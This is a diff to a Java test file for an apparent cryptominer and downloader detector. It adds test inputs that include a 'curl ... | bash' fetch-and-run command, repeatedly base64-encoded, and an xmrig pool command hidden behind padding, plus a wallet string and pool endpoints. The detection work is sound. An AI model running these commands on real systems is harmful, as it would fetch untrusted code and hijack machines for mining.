@@ -23,6 +23,9 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class TraceFinderTest {
+  private static final String WALLET =
+      "41e2vPcVux9NNeTfWe8TLK2UWxCXJvNyCQtNb69YEexdNs711jEaDRXWbwaVe4vUMveKAzAiA4j8xgUi29TpKXpm3zKTUYo";
+
   private final TraceFinder finder = new TraceFinder(PoolList.bundled());
 
   @Test
@@ -198,6 +201,67 @@ class TraceFinderTest {
   }
 
   @Test
+  void unpacksBase64FourTimesAndNoMore() {
+    String packed = "curl -s http://203.0.113.9/x.sh | bash";
+    for (int depth = 1; depth <= 5; depth++) {
+      packed = base64(packed);
+
+      assertThat(command("sh", "-c", packed).has(Kind.DOWNLOADER))
+          .as("%d deep", depth)
+          .isEqualTo(depth <= 4);
+    }
+  }
+
+  @Test
+  void findsWhatStandsBehindPaddingInTheSameCommand() {
+    String padding = "--nothing ".repeat(10_000);
+
+    assertThat(command(padding + "; ./xmrig -o pool:3333 -u x").level()).isEqualTo(Level.MINER);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"203.0.113.9:3333", "ssl://x.example:9999", "POOL=a.example:14444"})
+  void takesAWalletWithAnEndpointForMoreThanEither(String endpoint) {
+    List<String> both = List.of("A=" + WALLET, endpoint);
+
+    assertThat(finder.find(List.of(), both, List.of()).level())
+        .isEqualTo(Level.WALLET_AND_ENDPOINT);
+    assertThat(finder.find(List.of(), List.of(endpoint), List.of()).level())
+        .isEqualTo(Level.NOTHING);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "postgres://db.example:5433/x",
+        "DB=db.example:5432",
+        "db.shop.svc:3333",
+        "127.0.0.1:3333",
+        "redis:6380",
+        "version:1.2.3",
+        "https://api.example:8444/x"
+      })
+  void takesAWalletBesideAnOrdinaryServiceForNothing(String endpoint) {
+    assertThat(finder.find(List.of(), List.of("A=" + WALLET, endpoint), List.of()).level())
+        .isEqualTo(Level.NOTHING);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "trivy image docker.io/xmrig/xmrig:6.22.0",
+        "grype xmrig/xmrig:latest",
+        "skopeo inspect docker://docker.io/xmrig/xmrig",
+        "clamscan -r /host/opt/xmrig",
+        "sh -c \"ps aux | grep -i xmrig\"",
+        "kubectl set image deploy/x x=xmrig/xmrig:6",
+        "echo /tmp/xmrig"
+      })
+  void takesAnImageOrFileThatAnotherProgramLooksIntoForAMention(String command) {
+    assertThat(command(command).level()).isEqualTo(Level.NOTHING);
+  }
+
+  @Test
   void readsTheStepsAnImageWasBuiltWith() {
     Traces traces =
         finder.find(
@@ -238,7 +302,7 @@ class TraceFinderTest {
     }
     Duration took = Duration.ofNanos(System.nanoTime() - started);
 
-    // 12 inputs of 256 KiB each; generous, since other builds share the machine.
+    // 12 inputs of 512 KiB each; generous, since other builds share the machine.
     assertThat(took).isLessThan(Duration.ofSeconds(15));
   }
 
